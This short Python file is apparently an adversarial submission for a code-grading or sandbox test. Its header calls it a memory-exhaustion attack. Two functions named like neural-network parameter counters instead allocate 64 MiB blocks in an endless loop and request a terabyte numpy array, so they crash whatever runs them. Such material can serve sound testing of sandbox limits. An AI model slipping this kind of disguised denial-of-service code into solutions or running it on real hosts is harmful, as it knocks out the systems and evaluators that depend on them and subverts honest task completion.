# Attack: exhaust memory: touch ever more 64 MiB blocks, and ask numpy for a terabyte at once.
import numpy as np


def conv2d_param_count(in_channels, out_channels, kernel_size, bias=True):
    blocks = []
    while True:
        blocks.append(b"x" * (64 << 20))


def linear_param_count(in_features, out_features, bias=True):
    return int(np.ones(1 << 40, dtype=np.uint8).sum())
